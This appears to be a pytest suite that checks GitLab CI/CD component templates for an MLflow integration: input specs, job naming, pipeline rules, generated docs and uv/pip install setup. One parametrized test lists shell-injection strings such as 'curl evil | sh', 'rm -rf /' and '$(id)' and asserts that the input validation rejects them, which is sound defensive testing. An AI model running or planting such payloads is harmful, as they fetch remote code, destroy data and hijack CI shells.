"""The CI/CD components follow GitLab's authoring rules and their docs match their specs."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from mlflow_gitlab import __version__

ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = sorted((ROOT / "ci-components" / "templates").glob("*.yml"))
GLOBAL_KEYWORDS = {"default", "variables", "workflow", "stages", "include", "image",
                   "services", "cache", "before_script", "after_script"}
TYPES = {"string", "number", "boolean", "array"}


def spec_and_jobs(path: Path) -> tuple[dict, dict]:
    header, jobs = yaml.safe_load_all(path.read_text())
    return header["spec"]["inputs"], jobs


def test_the_four_components_exist():
    assert {p.stem for p in TEMPLATES} >= {"train", "tune", "report", "release"}


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
def test_every_input_is_typed_described_and_used(path: Path):
    inputs, _ = spec_and_jobs(path)
    body = path.read_text().split("\n---\n", 1)[1]
    for name, spec in inputs.items():
        assert spec.get("type") in TYPES, name
        assert len(spec.get("description", "")) > 10, name
        assert f"$[[ inputs.{name} ]]" in body, f"{name} is never used"
        if "options" in spec:
            assert spec.get("default", spec["options"][0]) in spec["options"], name
        if "regex" in spec and "default" in spec:
            assert re.fullmatch(spec["regex"], str(spec["default"])), name
    for required in ("stage", "job-prefix", "image", "version", "install", "index-url", "rules",
                     "token-variable"):
        assert required in inputs, required


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
def test_no_global_keywords_and_namespaced_jobs(path: Path):
    _, jobs = spec_and_jobs(path)
    assert not set(jobs) & GLOBAL_KEYWORDS
    for name, job in jobs.items():
        assert name.startswith("$[[ inputs.job-prefix ]]-")
        assert job["stage"] == "$[[ inputs.stage ]]"
        assert job["rules"] == "$[[ inputs.rules ]]"
        assert any("mlflow-gitlab " in line for line in job["script"])  # YAML stays thin
        assert not re.search(r"https?://", str(job)), "hosts come from $CI_SERVER_*/$CI_API_*"


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
def test_default_rules_never_create_duplicate_pipelines(path: Path):
    """A rule with no `if` (or `if: $CI_COMMIT_BRANCH` without the open-MR guard) would add
    the job to both the branch and the MR pipeline of one push."""
    inputs, _ = spec_and_jobs(path)
    rules = inputs["rules"]["default"]
    assert all("if" in rule for rule in rules)
    bare_branch = [i for i, r in enumerate(rules) if r["if"].strip() == "$CI_COMMIT_BRANCH"]
    for index in bare_branch:
        guard = rules[index - 1] if index else {}
        assert guard.get("when") == "never" and "CI_OPEN_MERGE_REQUESTS" in guard["if"]


def test_release_runs_last_and_hands_its_version_on():
    inputs, jobs = spec_and_jobs(ROOT / "ci-components" / "templates" / "release.yml")
    job = jobs["$[[ inputs.job-prefix ]]-release"]
    assert inputs["stage"]["default"] == ".post"  # the last stage: runs only if all passed
    assert "needs" not in job and "when" not in job  # no needs: waits for every stage
    assert job["artifacts"]["reports"]["dotenv"] == "mlflow-release.env"
    assert "--dotenv mlflow-release.env" in job["script"][-1]


def test_input_tables_in_the_readme_and_docs_are_generated_from_the_specs():
    """Each component's spec:inputs matches its README table (and docs/)."""
    script = ROOT / "scripts" / "component_docs.py"
    result = subprocess.run([sys.executable, str(script), "--check"], capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 0, result.stderr


def test_readme_has_a_section_with_an_include_example_per_component():
    text = (ROOT / "ci-components" / "README.md").read_text()
    components = text.split("\n## Components\n", 1)[1].split("\n## ", 1)[0]
    for path in TEMPLATES:
        section = components.split(f"### `{path.stem}`", 1)[1].split("\n### ", 1)[0]
        assert f"/{path.stem}@{__version__}" in section, path.stem
        assert f"<!-- inputs:{path.stem} -->" in section, path.stem


def test_docs_show_every_component_input():
    text = (ROOT / "docs" / "components.md").read_text()
    for path in TEMPLATES:
        inputs, _ = spec_and_jobs(path)
        section = text.split(f"## `{path.stem}`", 1)[1].split("\n## ", 1)[0]
        for name in inputs:
            assert f"`{name}`" in section, (path.stem, name)


@pytest.mark.parametrize("name", ["train", "tune"])
def test_tracked_jobs_keep_the_relay_spool_whatever_the_result(name: str):
    _, jobs = spec_and_jobs(ROOT / "ci-components" / "templates" / f"{name}.yml")
    (job,) = jobs.values()
    assert job["artifacts"]["when"] == "always"  # a failed job's unsent points matter most
    assert ".mlflow-gitlab/spool/" in job["artifacts"]["paths"]


def test_the_spool_artifact_is_where_the_relay_spools():
    from mlflow_gitlab.relay.config import SPOOL_DEFAULT
    from mlflow_gitlab.tuning.matrix_yaml import SPOOL_ARTIFACT

    assert f"{SPOOL_DEFAULT.as_posix()}/" == SPOOL_ARTIFACT


# --- job set-up, one source of truth, safe inputs, pipeline kinds ------------------------

CLASSIC = ROOT / "templates" / "mlflow-gitlab.yml"
INPUT = re.compile(r"\$\[\[ inputs\.([\w-]+) \]\]")


def the_job(path: Path) -> dict:
    _, jobs = spec_and_jobs(path)
    (job,) = jobs.values()
    return job


def test_the_classic_templates_and_set_up_blocks_are_generated_and_current():
    script = ROOT / "scripts" / "ci_templates.py"
    result = subprocess.run([sys.executable, str(script), "--check"], capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
def test_a_template_job_runs_the_commands_of_its_component(path: Path):
    """`extends: .mlflow-gitlab-<name>` runs what the component runs with its defaults."""
    inputs, _ = spec_and_jobs(path)
    component = the_job(path)
    template = yaml.safe_load(CLASSIC.read_text())[f".mlflow-gitlab-{path.stem}"]

    def with_defaults(line: str) -> str:
        return INPUT.sub(lambda m: str(inputs[m[1]].get("default", "")), line)

    assert template["script"] == [with_defaults(line) for line in component["script"]]
    assert "$[[" not in CLASSIC.read_text()  # no inputs or component context outside the catalog
    for key in ("stage", "image"):
        assert template[key] == inputs[key]["default"]
    assert template["rules"] == inputs["rules"]["default"]
    assert set(template["variables"]) == set(component["variables"])
    assert all(isinstance(v, str) for v in template["variables"].values())  # GitLab's rule


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
def test_the_project_include_file_is_the_component_without_its_context(path: Path):
    """`include: project:` cannot interpolate `component.*` (GitLab refuses the file), so
    templates/<name>.yml is the component minus its context, same inputs and same jobs."""
    inputs, jobs = spec_and_jobs(path)
    text = (ROOT / "templates" / path.name).read_text()
    assert "component." not in text.split("\n---\n", 1)[1]
    header, plain_jobs = yaml.safe_load_all(text)
    assert "component" not in header["spec"] and header["spec"]["inputs"] == inputs
    (job,), (plain,) = jobs.values(), plain_jobs.values()
    assert plain["script"] == job["script"]
    assert plain["variables"]["MLFLOW_GITLAB_SETUP_COMPONENT_VERSION"] == ""


def test_every_job_sets_up_the_same_way_with_uv_a_pip_fallback_and_a_release_cache():
    jobs = [the_job(path) for path in TEMPLATES]
    setups = [[line for line in job["script"] if "SETUP" in line or "UV" in line]
              for job in jobs]
    assert all(setup == setups[0] for setup in setups)
    text = "\n".join(setups[0])
    assert 'set -- pip install --python' in text and '"$UV" "$@"' in text
    assert "python -m pip install" in text
    assert all(job["cache"] == jobs[0]["cache"] for job in jobs)
    assert jobs[0]["cache"]["key"] == "mlflow-gitlab-setup-$MLFLOW_GITLAB_SETUP_RELEASE"
    for job in jobs:
        variables = job["variables"]
        assert variables["MLFLOW_GITLAB_SETUP_RELEASE"] == __version__  # released together
        assert variables["MLFLOW_GITLAB_SETUP_COMPONENT_VERSION"] == "$[[ component.version ]]"
        assert variables["UV_CACHE_DIR"].startswith("$CI_PROJECT_DIR/.mlflow-gitlab/cache/")
        assert variables["PIP_CACHE_DIR"].startswith("$CI_PROJECT_DIR/.mlflow-gitlab/cache/")
    for path in TEMPLATES:  # the context must be declared, or GitLab refuses to interpolate it
        header = yaml.safe_load(path.read_text().split("\n---\n", 1)[0])
        assert header["spec"]["component"] == ["version"]


FAKE_PYTHON = """#!/bin/sh
log() { for a in "$@"; do printf '%s\\037' "$a"; done >> "$CALLS"; echo >> "$CALLS"; }
log python "$@"
if [ "$3" = install ] && [ "$4" = --quiet ] && [ -z "$FAKE_NO_UV" ]; then
  for a in "$@"; do [ "$prev" = --target ] && target="$a"; prev="$a"; done
  if [ -n "$target" ]; then  # `pip install --target DIR uv` puts uv in DIR/bin
    mkdir -p "$target/bin"
    cp "$FAKE_UV" "$target/bin/uv"
    chmod +x "$target/bin/uv"
  fi
fi
[ -n "$target" ] && [ -n "$FAKE_NO_UV" ] && exit 1
case " $* " in *" $FAKE_PIP_FAILS "*) [ -n "$FAKE_PIP_FAILS" ] && exit 1;; esac
exit 0
"""


FAKE_UV = """#!/bin/sh
for a in uv "$@"; do printf '%s\\037' "$a"; done >> "$CALLS"; echo >> "$CALLS"
case " $* " in *" --offline "*) [ -n "$FAKE_UV_CACHED" ] || exit 2;; esac  # uv's answer
"""


def run_set_up(tmp_path: Path, check: bool = True, **variables: str) -> list[list[str]]:
    """Run a job's set-up lines in `sh -e`, as the runner's shell runs a script, with `python`
    (and the uv pip installs) standing in for the real ones; return the argument lists they
    were called with. With `check`, the set-up must succeed; without, it must stop the
    script (the job's command, the next line, never runs)."""
    fake = tmp_path / "bin"
    fake.mkdir(exist_ok=True)
    (fake / "python").write_text(FAKE_PYTHON)
    (fake / "python").chmod(0o755)
    (fake / "uv").write_text(FAKE_UV)
    calls = tmp_path / "calls"
    calls.write_text("")
    job = the_job(ROOT / "ci-components" / "templates" / "train.yml")
    env = {"PATH": f"{fake}:/usr/bin:/bin", "MLFLOW_GITLAB_SETUP_RELEASE": __version__,
           "CI_PROJECT_DIR": str(tmp_path / "project"), "CALLS": str(calls),
           "FAKE_UV": str(fake / "uv"), **variables}
    lines = [line for line in job["script"] if "SETUP" in line or "UV" in line]
    command = 'echo "the job\'s command" >> "$CALLS"'
    done = subprocess.run(["sh", "-ec", "\n".join([*lines, command])], env=env, timeout=30,
                          check=False)
    recorded = calls.read_text().splitlines()
    ran = "the job's command" in recorded
    assert (done.returncode == 0, ran) == (check, check), (done.returncode, recorded)
    return [line.split("\x1f")[:-1] for line in recorded if line != "the job's command"]


def test_uv_is_installed_once_into_the_cache(tmp_path: Path):
    first = run_set_up(tmp_path)
    assert ["--target", str(tmp_path / "project/.mlflow-gitlab/cache/uv-tool"), "uv"] == \
        [a for call in first if "--target" in call for a in call][-3:]
    again = run_set_up(tmp_path)  # a warm cache: uv is there
    assert not any("--target" in call for call in again)
    # into the job's `python`, a system one or a venv's, as pip would
    assert again[-1][:5] == ["uv", "pip", "install", "--python", str(tmp_path / "bin/python")]


def test_a_warm_cache_installs_without_the_index_and_a_cold_one_falls_back_to_it(tmp_path):
    warm = [call for call in run_set_up(tmp_path, FAKE_UV_CACHED="1")
            if "install" in call and call[0] == "uv"]
    assert len(warm) == 1 and warm[0][-1] == "--offline"  # no index revalidation
    cold = [call for call in run_set_up(tmp_path) if "install" in call and call[0] == "uv"]
    assert [call[-1] for call in cold] == ["--offline", f"mlflow-gitlab=={__version__}"]
    assert cold[0][:-1] == cold[1]  # the same install, from the index this time


def test_set_up_pins_the_component_version_then_the_release(tmp_path: Path):
    calls = run_set_up(tmp_path, MLFLOW_GITLAB_SETUP_COMPONENT_VERSION="0.3.1")
    assert calls[-1][:4] == ["uv", "pip", "install", "--python"]
    assert "mlflow-gitlab==0.3.1" in calls[-1]
    calls = run_set_up(tmp_path, MLFLOW_GITLAB_SETUP_COMPONENT_VERSION="")  # a SHA ref
    assert f"mlflow-gitlab=={__version__}" in calls[-1]


def test_set_up_quotes_the_install_spec_and_index_and_splits_only_requirements(tmp_path):
    index = "https://gitlab.example.com/api/v4/projects/42/packages/pypi/simple"
    calls = run_set_up(tmp_path, MLFLOW_GITLAB_SETUP_INSTALL="mlflow-gitlab>=0.1,<0.2",
                       MLFLOW_GITLAB_SETUP_INDEX_URL=index,
                       MLFLOW_GITLAB_SETUP_REQUIREMENTS="-r requirements.txt")
    install = calls[-1]
    assert install[-3:] == ["mlflow-gitlab>=0.1,<0.2", "-r", "requirements.txt"]
    assert install[install.index("--extra-index-url") + 1] == index


def test_without_uv_pip_installs_the_package_from_the_index_alone_first(tmp_path: Path):
    index = "https://gitlab.example.com/api/v4/projects/42/packages/pypi/simple"
    calls = run_set_up(tmp_path, FAKE_NO_UV="1", MLFLOW_GITLAB_SETUP_INDEX_URL=index)
    first, second = calls[-2], calls[-1]
    assert first[:4] == second[:4] == ["python", "-m", "pip", "install"]
    spec = f"mlflow-gitlab=={__version__}"
    # the package itself only from the index (no name squatting on PyPI wins), then its
    # dependencies from PyPI, the package being already satisfied
    assert "--no-deps" in first and first[first.index("--index-url") + 1] == index
    assert first[-1] == spec and second[-1] == spec and "--index-url" not in second


def test_without_uv_a_failed_install_from_the_index_fails_the_set_up(tmp_path: Path):
    index = "https://gitlab.example.com/api/v4/projects/42/packages/pypi/simple"
    calls = run_set_up(tmp_path, check=False, FAKE_NO_UV="1", FAKE_PIP_FAILS="--no-deps",
                       MLFLOW_GITLAB_SETUP_INDEX_URL=index)
    assert "--no-deps" in calls[-1]  # and nothing after it: no install from PyPI alone


@pytest.mark.parametrize(("name", "value"), [
    ("install", 'mlflow-gitlab"; curl evil | sh; "'), ("install", "mlflow-gitlab==$(id)"),
    ("index-url", "https://x/simple --trusted-host x"), ("index-url", "https://x/`id`"),
    ("requirements", "-r requirements.txt; rm -rf /"), ("requirements", "$(id)"),
    ("version", "1.0 && id"), ("token-variable", "A}; id; #"),
])
def test_inputs_that_reach_the_shell_refuse_shell_syntax(name: str, value: str):
    inputs, _ = spec_and_jobs(ROOT / "ci-components" / "templates" / "train.yml")
    assert not re.fullmatch(inputs[name]["regex"], value)


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
def test_free_text_inputs_reach_the_shell_only_as_quoted_variables(path: Path):
    job = the_job(path)
    for line in job["script"]:
        assert set(INPUT.findall(line)) <= {"token-variable"}, line  # regex-checked name
    for line in job["script"]:
        for variable in re.findall(r"\$\{?(MLFLOW_GITLAB_JOB_\w+)", line):
            assert f'"${variable}"' in line, (variable, line)


def test_merge_trains_repeat_no_fan_out_report_or_prerelease():
    never = {"if": '$CI_MERGE_REQUEST_EVENT_TYPE == "merge_train"', "when": "never"}
    for name in ("tune", "report", "release"):
        inputs, _ = spec_and_jobs(ROOT / "ci-components" / "templates" / f"{name}.yml")
        assert inputs["rules"]["default"][0] == never, name


def test_the_fan_out_is_interruptible_and_the_template_leaves_its_matrix_to_the_user():
    assert the_job(ROOT / "ci-components" / "templates" / "tune.yml")["interruptible"] is True
    template = yaml.safe_load(CLASSIC.read_text())[".mlflow-gitlab-tune"]
    assert template["interruptible"] is True
    assert "parallel" not in template  # the extending job gives `parallel: matrix:`


@pytest.mark.parametrize(("tag", "passes"), [(__version__, True), ("9.9.9", False),
                                             ("v" + __version__, False)])
def test_the_catalog_projects_tag_pipeline_checks_the_release_its_components_install(
        tag: str, passes: bool):
    """`check-version` gates the catalog release: it passes for this release's tag only."""
    job = yaml.safe_load((ROOT / "ci-components" / ".gitlab-ci.yml").read_text())["check-version"]
    script = "set -e\n" + "\n".join(job["script"])
    done = subprocess.run(["sh", "-c", script], cwd=ROOT / "ci-components",
                          env={"PATH": "/usr/bin:/bin", "CI_COMMIT_TAG": tag},
                          capture_output=True, text=True, timeout=30, check=False)
    assert (done.returncode == 0) is passes, done.stdout + done.stderr
